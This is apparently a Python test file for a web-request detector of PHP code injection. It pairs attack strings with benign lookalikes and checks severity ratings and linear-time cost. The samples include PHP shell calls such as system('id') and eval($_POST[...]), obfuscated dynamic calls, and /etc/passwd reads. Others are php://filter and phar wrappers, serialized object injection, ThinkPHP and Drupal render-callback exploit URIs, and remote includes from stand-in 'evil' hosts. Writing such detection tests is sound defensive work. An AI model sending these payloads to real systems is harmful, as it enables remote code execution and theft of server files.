"""PHP code injection: tags, calls through evasions, dynamic calls, objects, wrappers."""
from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from extauthz.decode import Input
from extauthz.detect.php import PhpInjection, assess
from extauthz.detect.prefilter import Prefilter
from extauthz.finding import Severity
from extauthz.lang.php import bracket_partners, tokenize

from detect_helpers import best_cpu_ms

DETECTOR = PhpInjection()
PREFILTER = Prefilter([DETECTOR])


def hit(value: str, kind: str = "query"):
    if not PREFILTER.candidates(value):
        return None
    return assess(value, code=kind != "path")


@pytest.mark.parametrize("value,rule", [
    ("<?php system('id'); ?>", "php.open-tag"), ("<?=$_GET['x']?>", "php.open-tag"),
    ("<? echo 'hello'; ?>", "php.open-tag"), ("<?xml :exec('cat /etc/passwd');", "php.open-tag"),
    ("{php}test{/php}", "php.open-tag"), ("system(whoami)", "php.function-call"),
    ("@exec('test')", "php.function-call"), ("exec /*comment*/ ()", "php.function-call"),
    ("exec #comment\n (blah)", "php.function-call"), ("base64_decode(", "php.function-call"),
    ("FOOcall_user_func()", "php.function-call"), ("array_diff (", "php.function-call"),
    ("printf(foo)", "php.function-call"), ("pi\x0b()", "php.function-call"),
    ("I don't like gzuncompress/*comment*/()", "php.function-call"),
    ("$a(1)", "php.dynamic-call"), ("@$__[o](4)", "php.dynamic-call"), ("${'a'}(11)", "php.dynamic-call"),
    ("$_aB_4c[5]['d'] /*lol*/ (17)", "php.dynamic-call"), ("$foo->$funcname()", "php.dynamic-call"),
    ('"\\x73y\\x73tem"(ls);', "php.dynamic-call"), ("(sy.(st).em)('uname');", "php.dynamic-call"),
    ("[system][0](ls);", "php.dynamic-call"), ("(['system'])[0]('uname');", "php.dynamic-call"),
    ("$y = 'sys'.'tem';($y)('uname');", "php.concatenated-name"), ("x='sys' . 'tem'", "php.concatenated-name"),
    ("$_SERVER['test'];", "php.superglobal"), ("$ {'_VAR'.'IABLE_NAME'}", "php.variable-variable"),
    ('O:8:"stdClass":1:{s:1:"a";i:2;}', "php.object-injection"), ("php://filter/read=convert.base64-encode/resource=x", "php.wrapper"),
    ("phar://phpinfo.zip/phpinfo.txt", "php.wrapper"), ("allow_url_include = On", "php.ini-directive"),
    # "." joins strings and variables in PHP: a call after one is still a call; after a bare name only
    # a dangerous function counts
    ("'.print(md5(1)).'", "php.function-call"), ("$a.print($b)", "php.function-call"),
    ("x.system('id')", "php.function-call"),
])
def test_attacks(value, rule):
    h = hit(value)
    assert h is not None and h.rule == rule and h.severity >= Severity.HIGH, (value, h)


@pytest.mark.parametrize("value", [
    "the files (yep)", "exec (", "executor()", "cheval($foo)", "the system is down()", "ecosystem()", "systems()",
    "system something()", "Upload your file(s)", "Select the date(s)", "max(a, b)", "round(2.5)",
    '<?xml version="1.0" encoding="UTF-8"?>', "<?xpacket begin=\"?\" id=\"x\"?>", "richard.php@my-email.com",
    "Is this a test? What do you think?", "expr=result = (x < 5) ? yes : no", "(foo)bar or foo(bar)",
    "this is a \"dog\" (not a cat)", "$5 (approx)", "operating system (OS)", "/wiki/Date_(fruit)",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)", "costs $ 5 {approx}",
    "email=user@[192.168.1.1]", "O:8 some text", "price: 5 (incl. tax)",
    # method calls of other languages named like everyday PHP functions
    'Use console.log("x") to debug.', "Math.log(2)", 'str.format("a")', 'a.print("x")', "date.format('Y')",
])
def test_benign(value):
    h = hit(value)
    assert h is None or h.severity < Severity.HIGH, (value, h)


def test_path_kind_checks_calls_but_not_dynamic_syntax():
    assert hit("/get/substr()", kind="path").severity >= Severity.HIGH
    assert hit("/a/$b(1)", kind="path") is None


def test_finding_shape():
    (f,) = DETECTOR.scan_input(Input("form", "code", "<?php eval($_POST['c']); ?>"))
    assert (f.cls, f.rule, f.location) == ("rce", "php.open-tag", "form:code")


def test_tokenizer_undoes_string_escapes():
    toks = [t for t in tokenize('"\\x73y\\163tem"') if t.kind == "string"]
    assert toks[0].text == "system"


@given(st.text(alphabet=st.sampled_from(list("abcsystem$_()[]{}'\".#/*\n <?php:O1\\")), max_size=300))
@settings(max_examples=400, deadline=None)
def test_property_never_raises(value):
    assess(value)
    tokenize(value)


# ---------------------------------------------------------------- cost on hostile input


@pytest.mark.parametrize("unit", ["*)(", ")(uid=*", "${jndi:", "select(", "char(", "alert(1)", "';\".", "(",
                                  "a)(", "x[0](", "$a[", "'a'.", "${'", "/**/(", "(sy.(st).em)"])
def test_8k_of_a_repeated_token_is_read_in_linear_time(unit):
    """Each call or "(" candidate is judged from precomputed bracket pairs and running
    counts, never by rescanning the value: 8 KiB of `*)(` took a second when it was."""
    value = (unit * (8192 // len(unit) + 1))[:8192]
    assess(value)
    assert best_cpu_ms(assess, value) < 15.0, unit


def test_cost_grows_linearly_with_the_value():
    small, large = ("*)(" * 700)[:2048], ("*)(" * 2800)[:8192]
    assess(small)
    # quadratic growth would make 4x the input cost 16x; allow noise up to 8x
    assert best_cpu_ms(assess, large) < 8 * max(best_cpu_ms(assess, small), 0.2)


def test_bracket_partners_pair_each_kind_separately():
    tokens = tokenize("a([b)]{c}(")
    partner = bracket_partners(tokens)
    texts = [t.text for t in tokens]
    assert texts == ["a", "(", "[", "b", ")", "]", "{", "c", "}", "("]
    assert (partner[1], partner[4]) == (4, 1)  # ( … ) across a [
    assert (partner[2], partner[5]) == (5, 2)
    assert (partner[6], partner[8]) == (8, 6)
    assert partner[9] == -1 and partner[0] == -1


@pytest.mark.parametrize("value", [
    "$a[1][2][3](4)", "$f{0}[1]('id')", "['system'][0]('id')", "(['sys'.'tem'])[0]('id')",
    "x'; (sy.(st).em)('id');//", "a" * 3000 + " ';system('id');//",
])
def test_chains_and_breakouts_still_read_within_their_bounds(value):
    h = hit(value)
    assert h is not None and h.severity >= Severity.HIGH, (value[-40:], h)


def test_calls_far_after_decoy_brackets_are_still_seen():
    # hundreds of bracket groups before the call: the chain walk is bounded, not the value
    assert hit("(x)" * 600 + " system('id')").severity >= Severity.HIGH


@pytest.mark.parametrize("value", [
    'O:' + "9" * 5000 + ':"abc":1:{}', 'O:\u00b2:"abc":1:{}', 'C:\u0663:"abc":1:{}',
])
def test_serialized_object_lengths_that_int_refuses_do_not_raise(value):
    assert assess(value) is None or assess(value).rule != "php.object-injection"


@pytest.mark.parametrize("value", [
    'O:+8:"stdClass":1:{s:1:"a";i:2;}', 'a:1:{i:0;O:+4:"Evil":0:{}}', 'C:+11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}',
])
def test_signed_serialized_lengths_are_objects_too(value):
    h = hit(value)
    assert h is not None and h.rule == "php.object-injection" and h.severity >= Severity.HIGH, (value, h)


@pytest.mark.parametrize("value", ['O:+8 some text', 'ratio 2:+3:"x"', 'O:+:"abc":1:{}'])
def test_signed_lookalikes_pass(value):
    h = hit(value)
    assert h is None or h.rule != "php.object-injection", (value, h)


@pytest.mark.parametrize("value", [
    "Use the print() function to display", "The file() function is deprecated",
    "please run phpinfo() now and tell me", "Call phpinfo() to see your config",
])
def test_an_empty_call_named_in_text_is_not_blocked(value):
    h = hit(value)
    assert h is None or h.severity < Severity.HIGH, (value, h)


@pytest.mark.parametrize("value", ["phpinfo()", "print()", "phpinfo() and system()", "file() is deprecated",
                                   "the system('id') call in text is still a call with arguments"])
def test_empty_or_argument_calls_without_much_text_block(value):
    h = hit(value)
    assert h is not None and h.severity >= Severity.HIGH, (value, h)


@pytest.mark.parametrize("value", ["test{${sleep(12)}}", "{${ usleep(5000000) }}", "x{${phpversion()}}y"])
def test_calls_inside_complex_interpolation_block(value):
    h = hit(value)
    assert h is not None and h.severity >= Severity.HIGH, (value, h)


@pytest.mark.parametrize("value", ["hello {${name}}", "${fn(x)}", "const s = `a ${f(x)}`", "price {$total}"])
def test_interpolation_without_a_call_or_braces_passes(value):
    h = hit(value)
    assert h is None or h.severity < Severity.HIGH, (value, h)


@pytest.mark.parametrize("uri", [
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
    "/index.php?s=index/\\think\\Request/input&filter=system&data=id", "/?callback=passthru&arg=id",
    "/?fn=create_function", "/index.php?s=index/\\think\\template\\driver\\file/write&cacheFile=x.php",
])
def test_function_names_handed_to_a_dispatcher_block(uri):
    from detect_helpers import findings, request
    got = findings(PhpInjection(), request(uri))
    assert ("php.callback-parameter", Severity.HIGH) in {(f.rule, f.severity) for f in got}, got


@pytest.mark.parametrize("uri", ["/?function=system", "/?callback=jQuery1234", "/?q=call_user_func_array",
                                 "/?path=C:\\think\\docs/readme", "/?action=passthru", "/?s=/home/index"])
def test_function_names_elsewhere_and_everyday_dispatch_values_pass(uri):
    from detect_helpers import findings, request
    assert not [f for f in findings(PhpInjection(), request(uri)) if f.severity >= Severity.HIGH]


@pytest.mark.parametrize("method,uri,body", [
    ("POST", "/user/register?element_parents=account/mail/%23value&ajax_form=1",
     "form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id"),
    ("GET", "/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id", ""),
    ("POST", "/user/register", "mail[#lazy_builder][0]=system&mail[#lazy_builder][1][]=id"),
    ("POST", "/vendor/htmlawed/htmlawed/htmLawedTest.php", "sid=abc&hhook=exec&text=id"),
])
def test_render_callbacks_set_to_command_functions_block(method, uri, body):
    from detect_helpers import findings, request
    req = request(uri, method, {"content-type": "application/x-www-form-urlencoded"} if body else None, body)
    got = findings(PhpInjection(), req)
    assert ("php.callback-parameter", Severity.HIGH) in {(f.rule, f.severity) for f in got}, got


@pytest.mark.parametrize("body", ["title=pre_render+system&body[#markup]=system", "render=system&hook=exec",
                                  "mail[#post_render][]=my_module_render", "hhooks=exec", "a[#type]=markup&b=system"])
def test_render_keys_with_everyday_values_pass(body):
    from detect_helpers import findings, request
    got = findings(PhpInjection(), request("/node", "POST", {"content-type": "application/x-www-form-urlencoded"}, body))
    assert not [f for f in got if f.severity >= Severity.HIGH], got


@pytest.mark.parametrize("value", ['print("hello world")', 'python print("hello world")', "echo('done')"])
def test_printing_one_string_is_not_an_attack_on_its_own(value):
    h = hit(value)
    assert h is None or h.severity < Severity.HIGH, h


@pytest.mark.parametrize("value", ['print(md5("x"))', '${@print(md5(acunetix_wvs_security_test))}',
                                   'print(system("id"))', 'print($_GET["a"])', 'echo(`id`)'])
def test_printing_something_computed_still_is(value):
    h = hit(value)
    assert h is not None and h.severity >= Severity.HIGH, value


@pytest.mark.parametrize("value", [
    # a bare word before the name: PHP has no `word name(`
    "Common UNIX Printing System(tm) - BSD commands", "Perl interface to the UNIX syslog(3) calls",
    "Replacement for old unix crypt(1)", "feature-rich BSD mail(1)", "POSIX-style getopt()",
    "helper to require() directories", "powerful alternative to var_export()", "Install Thin Client chroot (metapackage)",
    "Tag Image File Format\n(TIFF), a widely used format", "Ruby Implementation of posix_spawn(2) for faster spawning",
    # a bare word after a call of words: "unpack (almost) everything"
    "unpack (almost) everything with one command", "the root XML catalog file (requires debhelper package)",
])
def test_calls_written_between_words_of_text_pass(value):
    h = hit(value)
    assert h is None or h.severity < Severity.HIGH, (value, h)


@pytest.mark.parametrize("value", [
    "system('id')", "echo system('id');", "';system('id');//", "x system('cat /etc/passwd')", "print system($_GET[1])",
    "I don't like gzuncompress/*comment*/()", "system(id) or die()", "@passthru('ls') and 1", "phpinfo()",
    "return shell_exec($c);",
])
def test_calls_in_code_still_block(value):
    h = hit(value)
    assert h is not None and h.severity >= Severity.HIGH, (value, h)


@pytest.mark.parametrize("value", [
    'it can be used to save it to a file (in that case to "foo").',
    "the output goes to a file (see the 'logging' section) when set",
])
def test_an_aside_that_quotes_a_word_is_no_call(value):
    """Two names side by side are no PHP arguments (`new Foo`, `as`, `instanceof` are keywords):
    "file (in that case to "foo")" is text that quotes a word, not file() given a string."""
    h = hit(value)
    assert h is None or h.severity < Severity.HIGH, (value, h)


@pytest.mark.parametrize("value", ['file("/etc/passwd")', 'a file ("/etc/passwd")', "system(cat '/etc/passwd')",
                                   "include(new Foo('x'))", "system(echo 'id')"])
def test_arguments_that_are_code_still_block(value):
    h = hit(value)
    assert h is not None and h.severity >= Severity.HIGH, (value, h)


def test_a_call_in_text_stays_visible():
    h = hit("Common UNIX Printing System(tm) - core library")
    assert h is not None and h.severity == Severity.MEDIUM and "text" in h.detail


@pytest.mark.parametrize("value", ["anywhere below $HOME (Closes: #940578)", "themes from $XDG_DATA_HOME (Closes: #930031)"])
def test_a_variable_named_before_an_aside_is_not_a_call(value):
    h = hit(value)
    assert h is None or h.severity < Severity.HIGH, (value, h)


@pytest.mark.parametrize("value", ["$f('id')", "$f ('id')", "$f ($x)", "$_GET[0]($_GET[1])", "$OOO0000O0 (16)",
                                   "$function\r\n (23)"])
def test_calls_through_variables_still_block(value):
    h = hit(value)
    assert h is not None and h.severity >= Severity.HIGH, (value, h)


@pytest.mark.parametrize("value", ["<?php", "<?php ", "session <?php\n"])
def test_a_bare_open_tag_with_no_code_is_only_suggestive(value):
    (f,) = DETECTOR.scan_input(Input("cookie", "session", value))
    assert (f.rule, f.severity) == ("php.open-tag", Severity.MEDIUM)


@pytest.mark.parametrize("value", [
    "Common UNIX Printing System(tm) - BSD commands", "printf(1) now references printf(3)",
    "the crypt(3) function", "fix rename(2) regression against samba",
])
def test_manual_sections_and_trademarks_are_not_calls(value):
    v = assess(value)
    assert v is None or v.severity < Severity.HIGH, (value, v)


def test_graphql_directives_are_not_php_calls():
    from extauthz.decode import Input
    from extauthz.detect.php import PhpInjection as Php

    det = Php()
    doc = "query Q($w: Boolean!) { posts(first: 5) @include(if: $w) { title } avatar @skip(if: $lite) }"
    assert not [f for f in det.scan_input(Input("graphql", "query", doc)) if f.severity.name in ("HIGH", "CRITICAL")]
    for payload in ('@include($_GET[1])', '@include("http://evil/x.txt")'):
        assert any(f.rule == "php.function-call" and f.severity.name == "HIGH"
                   for f in det.scan_input(Input("query", "q", payload))), payload


DOC = "This library parses configuration files. It has a small API that is easy to use.\n" * 3


@pytest.mark.parametrize("example", [
    "    >>> import lazr.uri\n    >>> print('VERSION:', lazr.uri.__version__)\n",
    "    int* x = malloc(10 * sizeof(int));\n    if ((!strcmp(argv[arg_indx], \"-param\")))\n",
    "    >>> list(list(ini)[0].items())\n",
])
def test_code_examples_of_a_document_need_company(example):
    h = assess(DOC + example + DOC)
    assert h is not None and h.severity == Severity.MEDIUM, h
    assert assess(example.strip().split("\n")[-1].lstrip(" >")).severity >= Severity.HIGH  # alone it is a call


def test_dangerous_calls_in_a_document_still_block():
    for example in ("    >>> system('id')\n", "    print(1); eval($_GET['x']);\n", "<?php passthru('id'); ?>\n"):
        h = assess(DOC + example + DOC)
        assert h is not None and h.severity >= Severity.HIGH, (example, h)


def test_manual_page_references_are_no_calls():
    """`systemd.exec(5)`, `system(3)`, `crontab(5)`: a manual page and its section named in text."""
    for value in ("See systemd.exec(5) for details on this option.", "as system(3) does", "exec(3p)",
                  "the crontab(5) format", "SSL_read(3ssl) returns"):
        assert hit(value) is None, value
    assert hit("exec($cmd)").severity >= Severity.HIGH and hit("system('id')").severity >= Severity.HIGH
    assert hit("1 and sleep(5)") is not None  # a delay's number is the probe itself


def test_node_require_is_no_include():
    """Node's module loader in a README's code block: a built-in (`node:` prefix), or the value
    of a JavaScript declaration, which PHP cannot parse. PHP's includes stay calls."""
    for value in ("const { Buffer } = require('node:buffer');\nconst buf = Buffer.from('x');",
                  "const dns = require('node:dns');", "let mod = require('./mod.js');\nmod.hello();",
                  "require('node:fs').readFileSync", "var x = require(\"lodash\");"):
        h = hit(value, "json")
        assert h is None or h.rule != "php.function-call", (value, h)
    for value in ("$m = require('/etc/passwd');", "require('http://evil.example/x.txt');",
                  "const a = require($_GET['f']);", "<?php require('shell.php'); ?>",
                  "x=require('php://filter/convert.base64-encode/resource=index.php')"):
        h = hit(value)
        assert h is not None and h.severity >= Severity.HIGH, (value, h)
